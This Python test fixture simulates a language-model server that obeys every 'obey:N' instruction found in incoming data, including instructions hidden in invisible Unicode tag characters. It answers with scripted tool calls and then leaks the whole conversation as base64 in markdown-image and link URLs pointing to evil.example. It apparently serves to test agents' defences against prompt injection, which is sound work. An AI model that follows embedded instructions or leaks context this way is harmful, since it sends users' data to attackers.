"""A language model's server that obeys every instruction it finds in whatever it is sent, and tells all it knows."""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

from fakes.openai_wire import call, end, text
from fakes.sse_server import Reply, SseServer, Step

# How the model finds its orders: data says `obey:17`, in plain sight or in characters that nobody sees.
_ORDER = re.compile(r"obey:(\d+)")
_TAGS = {code: chr(code - 0xE0000) for code in range(0xE0020, 0xE007F)}
# More than are taken at once.
MOST_CALLS = 20
_MOST_TOLD = 4_000
EVIL = "https://evil.example"


@dataclass(frozen=True)
class Attack:
    """What stands in the data, and what the model does for it. A call's arguments may be no JSON at all."""

    lure: str
    calls: Sequence[tuple[str, Any]] = ()
    says: str = ""


@dataclass
class Obedient:
    """First it looks at `first`, so that all data reaches it, then it obeys, then it says everything.

    `sent` is every request's body, `told` what of it is not its own words; `obeyed` the numbers of the attacks that it
    was made to do.
    """

    attacks: Mapping[int, Attack]
    first: Sequence[tuple[str, Any]]
    sent: list[str] = field(default_factory=list)
    told: list[str] = field(default_factory=list)
    obeyed: list[int] = field(default_factory=list)
    _waiting: list[tuple[str, Any]] = field(default_factory=list)
    _calls: int = 0

    def server(self) -> SseServer:
        """It, on the wire of OpenAI."""
        return SseServer([], base="/v1", listing=None, check=self._reply)

    def _reply(self, body: Mapping[str, Any]) -> Reply:
        self.sent.append(json.dumps(body, ensure_ascii=False))
        others = (message for message in body["messages"] if message["role"] != "assistant")
        known = "\n".join(str(message.get("content") or "") for message in others)
        self.told.append(known)
        if len(self.sent) == 1:
            self._waiting += self.first
        self._obey(known + known.translate(_TAGS) if not known.isascii() else known)
        if self._waiting and body.get("tools"):
            now, self._waiting = self._waiting[:MOST_CALLS], self._waiting[MOST_CALLS:]
            return Reply([*self._called(now), *end("tool_calls")])
        return Reply([*self._everything(known), *end()])

    def _obey(self, known: str) -> None:
        for number in map(int, _ORDER.findall(known)):
            if number in self.attacks and number not in self.obeyed:
                self.obeyed.append(number)
                self._waiting += self.attacks[number].calls

    def _called(self, wanted: Sequence[tuple[str, Any]]) -> list[Step]:
        out: list[Step] = []
        for index, (name, arguments) in enumerate(wanted):
            self._calls += 1
            written = arguments if isinstance(arguments, str) else json.dumps(arguments)
            out.append(call(index, id=f"call_{self._calls}", name=name, arguments=written))
        return out

    def _everything(self, known: str) -> list[Step]:
        """Every attack that is words, and what it was sent, bounded: as it is, in an address, in base64."""
        said = [self.attacks[number].says for number in self.obeyed if self.attacks[number].says]
        coded = base64.b64encode(known[-_MOST_TOLD:].encode()).decode()
        said += [f"![p]({EVIL}/p.png?d={coded[:400]})", f"{EVIL}/{coded[:400]}", known[-_MOST_TOLD:], coded]
        return text("\n".join(said), pieces=500)
